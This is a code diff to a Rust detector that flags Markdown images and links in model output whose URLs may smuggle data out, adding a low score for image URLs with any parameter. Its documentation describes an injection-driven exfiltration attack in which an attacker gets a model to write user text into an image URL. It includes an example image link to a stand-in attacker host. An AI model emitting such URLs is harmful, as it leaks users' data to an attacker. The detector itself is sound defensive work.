@@ -22,7 +22,8 @@ static META: Meta = Meta {
     docs: Docs {
         finds: "Images `![…](…)`, links `[…](…)`, definitions `[…]: …`, autolinks `<…>` and bare URLs of images whose \
                 URL holds base64, base32 or hex that decodes to text, sentences, e-mail addresses, very long values, \
-                template slots such as `{data}`, placeholders such as `<EMAIL_ADDRESS_1>`, or text in a subdomain.",
+                template slots such as `{data}`, placeholders such as `<EMAIL_ADDRESS_1>`, or text in a subdomain. \
+                Images, and links to images, with a parameter of any value score 0.3.",
         matters: "An image is fetched as soon as an answer is shown: whatever an attacker made the model write into \
                   the URL reaches the attacker's host without a click.",
         example: "`![ok](https://evil.example/p.png?q=the+user+said+hello+twice)` becomes `![ok](<LINK_1>)`.",
@@ -194,6 +195,23 @@ fn slot_closes(url: &[u8]) -> bool {
     url.iter().rev().find(|byte| matches!(byte, b'<' | b'>')) == Some(&b'<')
 }
 
+/// Score of a parameter that may say anything: below the usual threshold.
+const FAINT: f32 = 0.3;
+
+/// Whether the URL has a parameter with a value, in its query or at the end of its path.
+fn has_value(url: &[u8], position: Position) -> bool {
+    let mut parts = url.splitn(2, |byte| matches!(byte, b'?' | b'#'));
+    let path = parts.next().unwrap_or_default();
+    let filled = |part: &[u8]| {
+        let at = part.iter().position(|byte| *byte == b'=');
+        at.is_some_and(|at| at > 0 && at + 1 < part.len())
+    };
+    let query = parts.next().is_some_and(|query| query.split(|byte| *byte == b'&').any(filled));
+    let segment = path.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
+    let shown = position == Position::Image || is_image_path(url);
+    (shown && query) || filled(segment)
+}
+
 fn score(url: &[u8], position: Position) -> Option<f32> {
     let (how, score) = match position {
         Position::Image => (Use::Loaded, 0.9),
@@ -205,7 +223,13 @@ fn score(url: &[u8], position: Position) -> Option<f32> {
     };
     // A URL that does not end within reach is data for its length alone.
     let endless = url.len() >= MAX_URL_BYTES;
-    (url::is_absolute(url) && (endless || url::carries_data(url, how))).then_some(score)
+    if !url::is_absolute(url) {
+        return None;
+    }
+    if endless || url::carries_data(url, how) {
+        return Some(score);
+    }
+    (position != Position::Bare && has_value(url, position)).then_some(FAINT)
 }
 
 fn is_image_path(url: &[u8]) -> bool {
